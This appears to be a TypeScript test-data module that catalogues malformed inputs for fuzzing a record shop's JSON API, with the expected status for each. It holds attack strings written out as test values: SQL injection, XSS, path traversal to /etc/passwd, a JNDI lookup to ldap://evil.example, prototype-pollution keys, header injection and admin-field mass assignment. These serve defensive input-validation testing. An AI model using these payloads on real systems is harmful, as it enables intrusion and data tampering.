import type { Random } from "./random";

/**
 * The catalogue of malformed input: what a client can get wrong about one field of a JSON
 * body, about the body as a whole, about an id in a path and about a list's query. Each
 * mutation says what the contract (shared/API.md) makes of it:
 * - `invalid`: the value alone is refused with 400 (`huge` ones with 413);
 * - `odd`: strange but valid (right-to-left marks, SQL, exponents…); it
 *   must reach the endpoint's guard, the one reason the test's base body is refused, so
 *   it is only sent where there is one, and never changes anything;
 * - `unknown`: a malformed id, which the contract treats as an unknown one (404).
 */

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** A value written into a body as raw JSON text, for numbers JSON.stringify cannot write (`1e400`, `-0`). */
export class Raw {
  constructor(readonly text: string) {}
}
export type Value = Json | Raw;

export type Verdict = "invalid" | "huge" | "odd" | "unknown" | "same";
export type Mutation = { name: string; value: Value | typeof OMIT; verdict: Verdict };
export const OMIT = Symbol("omitted");

export type FieldSpec =
  | { kind: "text"; max: number; required?: boolean }
  | { kind: "price" }
  | { kind: "year" }
  /** An ISO 3166-1 alpha-2 country; optional on create (a default), kept when omitted on edit, never cleared. */
  | { kind: "country" }
  /** A shipping price, 0 to 1000; `nullable` for shipping abroad, where null means "does not ship abroad". */
  | { kind: "shipping"; nullable?: boolean }
  | { kind: "enum"; values: readonly string[]; required?: boolean; foreign?: string[] }
  | { kind: "image" }
  | { kind: "email" }
  | { kind: "password"; min: number; max: number }
  /** A username (`USERNAME_PATTERN`); the base value is one already taken. */
  | { kind: "username" }
  | { kind: "id" };

const MB = 1024 * 1024;
export const ONE_MB_TEXT = "x".repeat(MB);

/** Serialises a body whose values may be raw JSON text. */
export function serialise(body: Record<string, Value>): string {
  const raws: string[] = [];
  const text = JSON.stringify(body, (_key, value) => {
    if (value instanceof Raw) {
      raws.push(value.text);
      return `\u0000raw${raws.length - 1}\u0000`;
    }
    return value;
  });
  return text.replace(/"\\u0000raw(\d+)\\u0000"/g, (_m, i: string) => raws[Number(i)]!);
}

// ——— Values every text field should survive ———

/**
 * Ill-formed UTF-16: lone surrogates cannot be stored or hashed faithfully (each becomes
 * U+FFFD), so every text field refuses them with 400.
 */
export function illFormedTexts(): Mutation[] {
  return [
    { name: "a lone high surrogate", value: "\ud800 lone", verdict: "invalid" },
    { name: "a lone low surrogate", value: "\udfff lone", verdict: "invalid" },
    { name: "a reversed surrogate pair", value: "\udc00\ud800", verdict: "invalid" },
  ];
}

/** Valid text a shopper would not type, at most `max` UTF-16 units each. */
export function oddTexts(max: number): Mutation[] {
  const texts: [string, string][] = [
    ["a right-to-left override", "\u202eevil.exe\u202c"],
    ["zero-width characters", "a\u200b\u200c\u200d\u2060\ufeffb"],
    ["emoji with joiners and flags", "🎵 👨‍👩‍👧‍👦 🏳️‍🌈"],
    ["a NUL character", "a\u0000b"],
    ["C0 and C1 controls", "a\u0001\u001f\u007f\u0085b"],
    ["stacked combining marks", `e${"\u0301".repeat(Math.min(60, max - 1))}`],
    ["mixed scripts", "東京 موسيقى Ελληνικά"],
    ["SQL", "'; DROP TABLE vinyls; --"],
    ["HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>"],
    ["template syntax", "${7*7} {{7*7}} #{7*7}"],
    ["a path", "../../../../etc/passwd"],
    ["full-text search syntax", '"NEAR(a b) OR title:* -x'],
    ["exactly the longest allowed", "x".repeat(max)],
  ];
  // Cut to `max` UTF-16 units, never between the two halves of a pair: that would be ill-formed text, which is invalid.
  const cut = (value: string) => (value.slice(0, max).isWellFormed() ? value.slice(0, max) : value.slice(0, max - 1));
  return texts.map(([name, value]) => ({ name, value: cut(value), verdict: "odd" as const }));
}

const WRONG_TYPES: [string, Json][] = [
  ["a number", 123],
  ["zero", 0],
  ["true", true],
  ["false", false],
  ["an empty array", []],
  ["an array of the right type", ["x"]],
  ["an object", {}],
  ["an operator object", { $ne: null }],
];

const wrongTypes = (except: (v: Json) => boolean = () => false): Mutation[] =>
  WRONG_TYPES.filter(([, v]) => !except(v)).map(([name, value]) => ({ name, value, verdict: "invalid" as const }));

const nextYear = new Date().getUTCFullYear() + 1;
const HEX = "0123456789abcdef".repeat(4);

/** Every mutation of one field, given its valid base value. */
export function mutationsOf(spec: FieldSpec, base: Json): Mutation[] {
  const invalid = (name: string, value: Value): Mutation => ({ name, value, verdict: "invalid" });
  const odd = (name: string, value: Value): Mutation => ({ name, value, verdict: "odd" });
  const huge: Mutation = { name: "a 1 MB string", value: ONE_MB_TEXT, verdict: "huge" };
  switch (spec.kind) {
    case "text": {
      const out = [
        ...wrongTypes(),
        invalid(`${spec.max + 1} characters`, "x".repeat(spec.max + 1)),
        // Lengths count characters (code points), not UTF-16 units: an emoji is one.
        invalid(`${spec.max + 1} emoji`, "🎵".repeat(spec.max + 1)),
        huge,
        ...illFormedTexts(),
        ...oddTexts(spec.max),
        odd(`${spec.max} emoji (${2 * spec.max} UTF-16 units)`, "🎵".repeat(spec.max)),
      ];
      if (spec.required) {
        out.push(invalid("null", null), invalid("empty", ""), invalid("only whitespace", " \t\n "), invalid("only an ideographic space", "\u3000"));
        out.push({ name: "missing", value: OMIT, verdict: "invalid" });
      } else {
        out.push(odd("null (clears it)", null), odd("empty (clears it)", ""), odd("only whitespace (clears it)", "   "));
      }
      return out;
    }
    case "price":
      return [
        ...wrongTypes((v) => v === 0),
        invalid("a numeric string", "25"),
        invalid("a decimal string", "25.00"),
        invalid("null", null),
        invalid("the string NaN", "NaN"),
        invalid("the string Infinity", "Infinity"),
        invalid("zero", 0),
        invalid("negative zero", new Raw("-0")),
        invalid("negative", -1),
        invalid("a negative cent", -0.01),
        invalid("three decimals", 25.001),
        invalid("a float artefact", new Raw("0.30000000000000004")),
        invalid("a tenth of a cent", 0.001),
        invalid("just over the maximum", 100000.01),
        invalid("a million", new Raw("1e6")),
        invalid("an overflowing exponent", new Raw("1e400")),
        invalid("a negative overflowing exponent", new Raw("-1e400")),
        invalid("the smallest subnormal", new Raw("5e-324")),
        invalid("beyond safe integers", new Raw("9007199254740993")),
        { name: "missing", value: OMIT, verdict: "invalid" },
        odd("an exponent (1e2)", new Raw("1e2")),
        odd("an upper-case exponent (2.5E1)", new Raw("2.5E1")),
        odd("trailing zeros (19.9900)", new Raw("19.9900")),
        odd("the maximum", 100000),
        odd("one cent", 0.01),
      ];
    case "year":
      return [
        ...wrongTypes((v) => v === 0),
        invalid("a numeric string", "1999"),
        invalid("a fraction", 1999.5),
        invalid("before records (1889)", 1889),
        invalid("zero", 0),
        invalid("negative", -1),
        invalid(`the year after next (${nextYear + 1})`, nextYear + 1),
        invalid("an exponent far out (1e5)", new Raw("1e5")),
        invalid("an exponent too early (1e3)", new Raw("1e3")),
        odd("null (clears it)", null),
        odd("empty (clears it)", ""),
        odd("the first year (1890)", 1890),
        odd(`next year (${nextYear})`, nextYear),
        odd("an exponent (1.99e3)", new Raw("1.99e3")),
      ];
    case "country":
      return [
        ...wrongTypes(),
        invalid("null", null),
        invalid("empty", ""),
        invalid("an unknown code", "ZZ"),
        invalid("a three-letter code", "USA"),
        invalid("a country's name", "Germany"),
        invalid("one letter", "U"),
        invalid("a zero-width space", "US\u200b"),
        invalid("full-width letters", "ＵＳ"),
        invalid("a letter that upper-cases into a code", "ß"),
        invalid("a NUL", "US\u0000"),
        invalid("a prototype name", "__proto__"),
        huge,
        odd("lower case", "de"),
        odd("padded with whitespace", " JP "),
        odd("Kosovo (XK)", "XK"),
        { name: "missing (the default, or kept)", value: OMIT, verdict: "odd" } as Mutation,
      ];
    case "shipping": {
      const out = [
        ...wrongTypes((v) => v === 0),
        invalid("a numeric string", "5"),
        invalid("the string NaN", "NaN"),
        invalid("negative", -1),
        invalid("a negative cent", -0.01),
        invalid("three decimals", 4.999),
        invalid("a float artefact", new Raw("0.30000000000000004")),
        invalid("just over the maximum", 1000.01),
        invalid("an overflowing exponent", new Raw("1e400")),
        invalid("the smallest subnormal", new Raw("5e-324")),
        huge,
        odd("zero (free shipping)", 0),
        odd("negative zero", new Raw("-0")),
        odd("the maximum", 1000),
        odd("an exponent (1e2)", new Raw("1e2")),
        odd("trailing zeros (4.50)", new Raw("4.50")),
        { name: "missing (the default, or kept)", value: OMIT, verdict: "odd" } as Mutation,
      ];
      if (spec.nullable) out.push(odd("null (does not ship abroad)", null), odd("empty (does not ship abroad)", ""));
      else out.push(invalid("null", null), invalid("empty", ""));
      return out;
    }
    case "enum": {
      const first = spec.values[0]!;
      const out = [
        ...wrongTypes(),
        invalid("lower case", first.toLowerCase() === first ? `${first}x` : first.toLowerCase()),
        invalid("a leading space", ` ${first}`),
        invalid("a trailing space", `${first} `),
        invalid("a zero-width space", `${first}\u200b`),
        invalid("full-width letters", [...first].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join("")),
        invalid("a NUL", `${first}\u0000`),
        invalid("two values in one", `${first},${spec.values[1] ?? first}`),
        invalid("an array of a valid value", [first]),
        invalid("a prototype name", "__proto__"),
        invalid("an inherited method name", "toString"),
        ...(spec.foreign ?? []).map((v) => invalid(`${v} (not allowed here)`, v)),
      ];
      if (spec.required) out.push(invalid("null", null), invalid("empty", ""), { name: "missing", value: OMIT, verdict: "invalid" });
      else out.push(odd("null (clears it)", null), odd("empty (clears it)", ""));
      return out;
    }
    case "image":
      return [
        ...wrongTypes(),
        invalid("another site's URL", "http://evil.example/x.png"),
        invalid("this shop's absolute URL", `https://localhost/images/${HEX}.png`),
        invalid("a protocol-relative URL", `//evil.example/images/${HEX}.png`),
        invalid("javascript:", "javascript:alert(1)"),
        invalid("a data URL", "data:image/png;base64,iVBORw0KGgo="),
        invalid("an unsupported extension", `/images/${HEX}.gif`),
        invalid("no extension", `/images/${HEX}`),
        invalid("a traversal", `/images/../${HEX}.png`),
        invalid("an upper-case hash", `/images/${HEX.toUpperCase()}.png`),
        invalid("a short hash", `/images/${HEX.slice(1)}.png`),
        invalid("an upper-case prefix", `/IMAGES/${HEX}.png`),
        invalid("a query string", `/images/${HEX}.png?x=1`),
        invalid("a trailing NUL", `/images/${HEX}.png\u0000`),
        invalid("a well-formed URL never uploaded", `/images/${HEX}.webp`),
        huge,
      ];
    case "email":
      return [
        ...wrongTypes(),
        invalid("null", null),
        invalid("empty", ""),
        invalid("only whitespace", "   "),
        invalid("no at sign", "not-an-email"),
        invalid("no domain dot", "a@b"),
        invalid("no local part", "@example.com"),
        invalid("no domain", "user@"),
        invalid("two at signs", "a@@example.com"),
        invalid("a space inside", "a b@example.com"),
        invalid("markup", "<script>@example.com"),
        invalid("longer than 254", `${"a".repeat(250)}@example.com`),
        invalid("a trailing zero-width space", "x@example.com\u200b"),
        invalid("a NUL", "x@example.com\u0000"),
        invalid("a right-to-left override", "x@exam\u202eple.com"),
        invalid("a header injection", "x@example.com\r\nBcc: y@example.com"),
        { name: "missing", value: OMIT, verdict: "invalid" },
        huge,
        // Emails are trimmed and lower-cased before use: these are the same address.
        { name: "the same address in upper case", value: String(base).toUpperCase(), verdict: "same" },
        { name: "the same address padded with whitespace", value: ` \t${String(base)}\n `, verdict: "same" },
      ];
    case "password":
      return [
        ...wrongTypes(),
        invalid("null", null),
        ...(spec.min > 1 ? [invalid(`${spec.min - 1} characters`, "x".repeat(spec.min - 1))] : []),
        invalid("empty", ""),
        invalid(`${spec.max + 1} characters`, "x".repeat(spec.max + 1)),
        { name: "missing", value: OMIT, verdict: "invalid" },
        huge,
        invalid("eight lone surrogates", "\ud800".repeat(8)),
        odd("eight NULs", "\u0000".repeat(8)),
        ...(spec.min > 1 ? [invalid(`${spec.min - 1} emoji (${2 * spec.min - 2} UTF-16 units)`, "🎵".repeat(spec.min - 1))] : []),
        invalid(`${spec.max + 1} emoji`, "🎵".repeat(spec.max + 1)),
        odd(`${spec.min} emoji`, "🎵".repeat(spec.min)),
        odd(`${spec.max} emoji`, "🎵".repeat(spec.max)),
        odd("right-to-left and zero-width", "\u202epass\u200bword\u200d"),
        odd("SQL", "' OR '1'='1' --"),
        odd("a JNDI lookup", "${jndi:ldap://evil.example/a}"),
        odd(`exactly ${spec.max} characters`, "y".repeat(spec.max)),
      ];
    case "username": {
      const name = String(base);
      return [
        ...wrongTypes(),
        invalid("null", null),
        invalid("empty", ""),
        invalid("only whitespace", "   "),
        invalid("two characters", "ab"),
        invalid("31 characters", "a".repeat(31)),
        invalid("a leading hyphen", `-${name}`),
        invalid("a trailing underscore", `${name}_`),
        invalid("a space inside", "crate digger"),
        invalid("a dot", "crate.digger"),
        invalid("a slash", "crate/digger"),
        invalid("a traversal", "../admin"),
        invalid("an at sign", "me@example.com"),
        invalid("a letter outside a-z", "björn"),
        invalid("emoji", "🎵🎵🎵"),
        invalid("a zero-width space", `${name}\u200b`),
        invalid("a NUL", `${name}\u0000`),
        invalid("a right-to-left override", `\u202e${name}`),
        invalid("full-width letters", "ａｂｃ"),
        invalid("a lone surrogate", "ab\ud800c"),
        huge,
        // Usernames are trimmed and compared lower-cased: these are the same, taken name.
        { name: "the same name in upper case", value: name.toUpperCase(), verdict: "same" },
        { name: "the same name padded with whitespace", value: ` \t${name}\n `, verdict: "same" },
      ];
    }
    case "id": {
      const id = String(base);
      return [
        ...wrongTypes(),
        invalid("null", null),
        invalid("empty", ""),
        invalid("only whitespace", "   "),
        { name: "missing", value: OMIT, verdict: "invalid" },
        huge,
        ...malformedIds(id).map(([name, value]) => ({ name, value, verdict: "unknown" as const })),
        { name: "the same id padded with spaces", value: `  ${id}\t`, verdict: "same" as const },
      ];
    }
  }
}

/** Ids that are not a lower-case UUID, as body values; the contract makes each an unknown id. */
export function malformedIds(id: string): [string, string][] {
  return [
    ["not a UUID", "not-a-uuid"],
    ["upper case", id.toUpperCase()],
    ["one character more", `${id}0`],
    ["one character less", id.slice(0, -1)],
    ["a zero-width space", `${id}\u200b`],
    ["a trailing NUL", `${id}\u0000`],
    ["braces", `{${id}}`],
    ["a URN", `urn:uuid:${id}`],
    ["the nil UUID", "00000000-0000-0000-0000-000000000000"],
    ["a path", "../../etc/passwd"],
    ["SQL", "' OR '1'='1"],
    ["the word null", "null"],
    ["emoji", "🎵"],
    ["right-to-left", `\u202e${id}`],
    ["ten thousand characters", "a".repeat(10_000)],
  ];
}

/** Path segments that are not a lower-case UUID, percent-encoded as a client would send them. */
export function malformedSegments(id: string): [string, string][] {
  return [
    ["not a UUID", "not-a-uuid"],
    ["upper case", id.toUpperCase()],
    ["one character more", `${id}0`],
    ["one character less", id.slice(0, -1)],
    ["a zero-width space", encodeURIComponent(`${id}\u200b`)],
    ["a trailing NUL", `${id}%00`],
    ["a leading space", `%20${id}`],
    ["the nil UUID", "00000000-0000-0000-0000-000000000000"],
    ["a number", "0"],
    ["negative", "-1"],
    ["the word null", "null"],
    ["the word undefined", "undefined"],
    ["SQL", "'%20OR%20'1'%3D'1"],
    ["a lone quote", "%27"],
    ["an encoded traversal", "..%2f..%2fapi%2fusers%2fcurrentuser"],
    ["an encoded dot-dot-slash", "%2e%2e%2fmine"],
    ["double encoding", "%252e%252e%252f"],
    ["a backslash", "a%5cb"],
    ["CJK", encodeURIComponent("東京")],
    ["emoji", encodeURIComponent("🎵")],
    ["right-to-left", encodeURIComponent(`\u202e${id}`)],
    ["invalid UTF-8", "%ff%fe"],
    ["a lone percent", "%"],
    ["a bad escape", "%zz"],
    ["a matrix parameter", `${id};x=1`],
    ["an encoded query", `${id}%3Fx%3D1`],
    ["eight thousand characters", "x".repeat(8000)],
  ];
}

// ——— Bodies as a whole ———

export type BodyCase = { name: string; body?: string | Uint8Array; contentType?: string | null; chunked?: boolean; expect: number[] };

const multipart = (fields: Record<string, string>, boundary = "----oscillation-abuse") =>
  Object.entries(fields)
    .map(([k, v]) => `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`)
    .join("") + `--${boundary}--\r\n`;

/** A body of exactly `bytes` bytes: `body` with a padding field. */
export function paddedTo(body: Record<string, Value>, bytes: number): string {
  const empty = serialise({ ...body, pad: "" });
  return serialise({ ...body, pad: "x".repeat(bytes - Buffer.byteLength(empty)) });
}

/**
 * What can be wrong with a JSON body as a whole, for an endpoint whose valid `base` body
 * is refused only for its guard. `limit` is its body limit in bytes.
 */
export function bodyCases(base: Record<string, Value>, limit: number, guard: number[]): BodyCase[] {
  const json = serialise(base);
  const badJson: [string, string][] = [
    ["an unclosed object", "{"],
    ["a truncated value", '{"title":'],
    ["a trailing comma", `${json.slice(0, -1)},}`],
    ["single quotes", "{'title':'x'}"],
    ["unquoted keys", "{title:1}"],
    ["an extra closing brace", `${json}}`],
    ["an unclosed array", "[1,2"],
    ["a bare NaN", "NaN"],
    ["a NaN value", `${json.slice(0, -1)},"price":NaN}`],
    ["an Infinity value", `${json.slice(0, -1)},"price":Infinity}`],
    ["undefined", '{"a":undefined}'],
    ["two documents", `${json} ${json}`],
    ["a NUL byte", "\u0000"],
    ["a raw control character in a string", '{"title":"a\u0001b"}'],
    ["an invalid escape", '{"title":"\\x41"}'],
    ["a truncated escape", '{"title":"\\ud8'],
    ["a comment", `/* hi */ ${json}`],
    ["an unterminated string", '"unterminated'],
    ["a truncated literal", "tru"],
    ["a leading zero", '{"price":01}'],
    ["a bare decimal point", '{"price":.5}'],
    ["a plus sign", '{"price":+1}'],
    ["an empty exponent", '{"price":1e}'],
    ["hexadecimal", '{"price":0x10}'],
    ["sixty thousand open brackets", "[".repeat(60_000)],
  ];
  const notObject: [string, string][] = [
    ["an empty array", "[]"],
    ["an array of the valid body", `[${json}]`],
    ["a number", "0"],
    ["a negative number", "-1"],
    ["an overflowing number", "1e999"],
    ["a string", '"title"'],
    ["null", "null"],
    ["true", "true"],
    ["false", "false"],
    ["thirty thousand nested arrays", `${"[".repeat(30_000)}${"]".repeat(30_000)}`],
  ];
  const contentTypes: [string, string | null, string][] = [
    ["text/plain", "text/plain", json],
    ["text/html", "text/html", json],
    ["XML", "application/xml", "<vinyl><title>x</title></vinyl>"],
    ["a form", "application/x-www-form-urlencoded", "title=x&price=1&genre=Jazz"],
    ["multipart", "multipart/form-data; boundary=----oscillation-abuse", multipart({ title: "x", price: "1", genre: "Jazz" })],
    ["octet-stream", "application/octet-stream", json],
    ["text/json", "text/json", json],
    ["application/jsonp", "application/jsonp", json],
    ["a parameter without a value", "application/json; charset", json],
    ["a space before the parameter", "application/json ;charset=utf-8", json],
    ["two types", "application/json, text/plain", json],
    ["an empty Content-Type", "", json],
    ["no Content-Type", null, json],
  ];
  return [
    ...badJson.map(([name, body]) => ({ name: `malformed JSON: ${name}`, body, contentType: "application/json", expect: [400] })),
    {
      // Decoded with replacement characters, as every Fetch body is: a strange key, ignored.
      name: "bytes that are not UTF-8 in a key",
      body: Buffer.concat([Buffer.from(json.slice(0, -1)), Buffer.from(',"'), Buffer.from([0xff, 0xfe, 0xc0, 0xaf]), Buffer.from('":1}')]),
      contentType: "application/json",
      expect: guard,
    },
    ...notObject.map(([name, body]) => ({ name: `JSON that is not an object: ${name}`, body, contentType: "application/json", expect: [400] })),
    ...contentTypes.map(([name, contentType, body]) => ({ name: `wrong content type: ${name}`, body, contentType, expect: [415] })),
    { name: "no body and no Content-Type", expect: [415], contentType: null },
    { name: "an empty JSON body", body: "", contentType: "application/json", expect: [400] },
    { name: "a JSON body of whitespace", body: " \n\t ", contentType: "application/json", expect: [400] },
    { name: "a JSON body of a BOM alone", body: "\ufeff", contentType: "application/json", expect: [400] },
    {
      // The contract speaks UTF-8; a body in another encoding does not parse.
      name: "the body in UTF-16, declared as such",
      body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(json, "utf16le")]),
      contentType: "application/json; charset=utf-16",
      expect: [400],
    },
    { name: `exactly the ${limit}-byte limit`, body: paddedTo(base, limit), contentType: "application/json", expect: guard },
    { name: `one byte over the ${limit}-byte limit`, body: paddedTo(base, limit + 1), contentType: "application/json", expect: [413] },
    { name: "1 MB", body: paddedTo(base, MB), contentType: "application/json", expect: [413] },
    { name: "1 MB streamed without a length", body: paddedTo(base, MB), contentType: "application/json", chunked: true, expect: [413] },
    { name: "an upper-case JSON type", body: json, contentType: "Application/JSON; Charset=UTF-8", expect: guard },
    { name: "a +json type", body: json, contentType: "application/vnd.api+json", expect: guard },
  ];
}

/** Fields added to a valid body: extra keys are ignored, and none reaches a column it names. */
export function extraFieldCases(base: Record<string, Value>, guard: number[]) {
  const cases: [string, string][] = [
    ["an unknown field", serialise({ ...base, extra: 1 })],
    [
      "fields a client must never set",
      // The body's own fields win: a route that takes `orderId` must still be sent the real one.
      serialise({ id: "00000000-0000-4000-8000-000000000001", userId: "00000000-0000-4000-8000-000000000002", status: "sold", version: 999, orderId: "00000000-0000-4000-8000-000000000003", priceCents: 1, currency: "XXX", createdAt: "1970-01-01T00:00:00Z", role: "admin", isAdmin: true, ...base }),
    ],
    ["a __proto__ key", `${serialise(base).slice(0, -1)},"__proto__":{"isAdmin":true,"status":"sold"}}`],
    ["a constructor.prototype key", `${serialise(base).slice(0, -1)},"constructor":{"prototype":{"isAdmin":true}}}`],
    ["a duplicate key whose last value is valid", `{"${Object.keys(base)[0]}":[1,2],${serialise(base).slice(1)}`],
    ["five hundred unknown fields", serialise({ ...base, ...Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`f${i}`, i])) })],
  ];
  return cases.map(([name, body]) => ({ name: `extra fields: ${name}`, body, contentType: "application/json", expect: guard }));
}

/** A random JSON value: the seeded fuzz part of the catalogue. */
export function randomJson(random: Random, depth = 0): Json {
  const kind = random.int(depth > 2 ? 4 : 6);
  switch (kind) {
    case 0:
      return null;
    case 1:
      return random.chance(0.5);
    case 2:
      return random.pick([0, -1, 1.5, 1e21, -1e-7, 2 ** 53, random.int(1_000_000) / 100]);
    case 3: {
      const alphabet = ["a", "Z", "0", " ", "\u0000", "\ud800", "\udfff", "\u202e", "\u200b", "é", "東", "🎵", '"', "\\", "/", "<", "'", "%", "\n"];
      return Array.from({ length: random.int(40) }, () => random.pick(alphabet)).join("");
    }
    case 4:
      return Array.from({ length: random.int(4) }, () => randomJson(random, depth + 1));
    default:
      return Object.fromEntries(Array.from({ length: random.int(4) }, (_, i) => [random.pick(["a", "title", "price", "$gt", `k${i}`]), randomJson(random, depth + 1)]));
  }
}

// ——— GET /api/vinyls queries ———

/** Forges a cursor token the way the catalog encodes them (base64url of JSON). */
export const cursorOf = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");

const A_UUID = "0b9e6a52-3c1f-4f7e-9a3d-2f8c1e5d7b40";

/** Query strings for the public list, each with the status the contract gives it. */
export const LIST_QUERIES: [string, string, number][] = [
  ["limit 0", "limit=0", 400],
  ["limit 101", "limit=101", 400],
  ["limit abc", "limit=abc", 400],
  ["limit -1", "limit=-1", 400],
  ["limit 1.5", "limit=1.5", 400],
  ["limit 1e2", "limit=1e2", 400],
  ["limit 0x10", "limit=0x10", 400],
  ["limit with a leading space", "limit=%201", 400],
  ["limit in Arabic-Indic digits", `limit=${encodeURIComponent("١٠")}`, 400],
  ["limit 9999", "limit=9999", 400],
  ["limit 000", "limit=000", 400],
  ["limit NUL", "limit=%00", 400],
  ["limit repeated", "limit=1&limit=2", 400],
  ["genre in lower case", "genre=jazz", 400],
  ["genre with a zero-width space", "genre=Jazz%E2%80%8B", 400],
  ["genre repeated", "genre=Jazz&genre=Rock", 400],
  ["genre __proto__", "genre=__proto__", 400],
  ["condition in lower case", "condition=m", 400],
  ["condition VG++", "condition=VG%2B%2B", 400],
  ["condition Mint", "condition=Mint", 400],
  ["condition a sleeve-only grade", "condition=GENERIC", 400],
  ["sort oldest", "sort=oldest", 400],
  ["sort in upper case", "sort=PRICE_ASC", 400],
  ["sort repeated", "sort=newest&sort=newest", 400],
  ["minPrice negative", "minPrice=-1", 400],
  ["minPrice an exponent", "minPrice=1e3", 400],
  ["minPrice three decimals", "minPrice=1.999", 400],
  ["minPrice abc", "minPrice=abc", 400],
  ["minPrice NaN", "minPrice=NaN", 400],
  ["minPrice Infinity", "minPrice=Infinity", 400],
  ["minPrice hexadecimal", "minPrice=0x10", 400],
  ["minPrice a decimal comma", "minPrice=1,5", 400],
  ["maxPrice ten digits", "maxPrice=1234567890", 400],
  ["maxPrice below minPrice", "minPrice=10&maxPrice=5", 400],
  ["q over 200 characters", `q=${"a".repeat(201)}`, 400],
  ["cursor garbage", "cursor=!!!", 400],
  ["cursor one character", "cursor=A", 400],
  ["cursor 513 characters", `cursor=${"A".repeat(513)}`, 400],
  ["cursor NUL", "cursor=%00", 400],
  ["cursor of JSON null", `cursor=${cursorOf(null)}`, 400],
  ["cursor of another sort", `cursor=${cursorOf({ s: "price_asc", k: 100, id: A_UUID })}`, 400],
  ["cursor with a negative key", `sort=price_asc&cursor=${cursorOf({ s: "price_asc", k: -1, id: A_UUID })}`, 400],
  ["cursor with an extra key", `cursor=${cursorOf({ s: "newest", k: "2026-01-01T00:00:00.000Z", id: A_UUID, x: 1 })}`, 400],
  ["cursor with a bad date", `cursor=${cursorOf({ s: "newest", k: "yesterday", id: A_UUID })}`, 400],
  ["cursor with SQL for an id", `cursor=${cursorOf({ s: "newest", k: "2026-01-01T00:00:00.000Z", id: "' OR 1=1 --" })}`, 400],
  ["cursor that is not UTF-8", `cursor=${Buffer.from([0xff, 0xfe, 0xfd]).toString("base64url")}`, 400],
  ["q with SQL", `q=${encodeURIComponent("' OR 1=1 --")}`, 200],
  ["q with an unterminated quote", `q=${encodeURIComponent('"unterminated')}`, 200],
  ["q with FTS operators", `q=${encodeURIComponent("NEAR(a b) AND title:* OR -x NOT ^y")}`, 200],
  ["q of punctuation only", `q=${encodeURIComponent('*"-():^')}`, 200],
  ["q of invalid UTF-8", "q=%ED%A0%80%ff", 200],
  ["q with a malformed escape", "q=%E0%A4%A", 200],
  ["q with emoji", `q=${encodeURIComponent("🎵 🏳️‍🌈")}`, 200],
  ["q with a NUL", "q=a%00b", 200],
  ["q with combining marks only", `q=${encodeURIComponent("\u0301\u0302")}`, 200],
  ["q of exactly 200 characters", `q=${"a".repeat(200)}`, 200],
  ["q of fifty words", `q=${Array.from({ length: 50 }, (_, i) => `w${i}`).join("+")}`, 200],
  ["empty values as a form sends them", "genre=&q=&minPrice=&maxPrice=&condition=&sort=&limit=&cursor=", 200],
  ["unknown parameters", "foo=bar&__proto__=x&constructor=y", 200],
  ["a bracketed parameter", "genre[]=Jazz", 200],
  ["limit with a leading zero", "limit=010", 200],
  ["minPrice with a leading space", "minPrice=%201", 200],
  ["the highest prices", "minPrice=999999999.99&maxPrice=999999999.99", 200],
  ["a forged but well-formed cursor", `cursor=${cursorOf({ s: "newest", k: "2026-01-01T00:00:00.000Z", id: A_UUID })}`, 200],
  ["seller of one character", "seller=a", 400],
  ["seller with a space", "seller=a%20b", 400],
  ["seller starting with a dash", "seller=-abc", 400],
  ["seller of 31 characters", `seller=${"a".repeat(31)}`, 400],
  ["seller with SQL", `seller=${encodeURIComponent("x' OR 1=1 --")}`, 400],
  ["seller with a path", "seller=..%2F..%2Fetc", 400],
  ["seller with a NUL", "seller=abc%00", 400],
  ["seller with a zero-width space", "seller=abc%E2%80%8B", 400],
  ["seller with an accent", `seller=${encodeURIComponent("émile")}`, 400],
  ["seller of 2,000 characters", `seller=${"a".repeat(2000)}`, 400],
  ["seller repeated", "seller=abc&seller=abd", 400],
  ["seller nobody is", "seller=nobody-at-all", 200],
  ["seller in upper case", "seller=NOBODY-AT-ALL", 200],
  ["seller __proto__", "seller=__proto__", 400],
  ["seller constructor", "seller=constructor", 200],
  ["seller with every other filter", "seller=nobody-at-all&genre=Jazz&q=x&minPrice=1&maxPrice=2&condition=VG&sort=price_asc&limit=5", 200],
];

/** Query strings for the caller's own listings. */
export const MINE_QUERIES: [string, string, number][] = [
  ["limit 0", "limit=0", 400],
  ["limit 101", "limit=101", 400],
  ["limit abc", "limit=abc", 400],
  ["limit repeated", "limit=1&limit=2", 400],
  ["cursor garbage", "cursor=!!!", 400],
  ["cursor of another sort", `cursor=${cursorOf({ s: "price_desc", k: 100, id: A_UUID })}`, 400],
  ["unknown parameters", "genre=Jazz&q=x&__proto__=1", 200],
  ["limit 5", "limit=5", 200],
];

/** `GET /api/sellers/:username/feedback` of a username nobody has: a bad query is 400 first, anything else the unknown seller's 404. */
export const FEEDBACK_QUERIES: [string, string, number][] = [
  ["limit 0", "limit=0", 400],
  ["limit 101", "limit=101", 400],
  ["limit abc", "limit=abc", 400],
  ["limit -1", "limit=-1", 400],
  ["limit 1e1", "limit=1e1", 400],
  ["limit repeated", "limit=1&limit=2", 400],
  ["cursor garbage", "cursor=!!!", 400],
  ["cursor of the record list", `cursor=${cursorOf({ s: "newest", k: "2026-01-01T00:00:00.000Z", id: A_UUID })}`, 400],
  ["cursor with a bad time", `cursor=${cursorOf({ t: "yesterday", o: A_UUID })}`, 400],
  ["cursor repeated", "cursor=a&cursor=b", 400],
  ["a 10 000 character cursor", `cursor=${"A".repeat(10_000)}`, 400],
  ["unknown parameters", "rating=positive&__proto__=1", 404],
  ["empty values", "limit=&cursor=", 404],
  ["limit 5", "limit=5", 404],
];
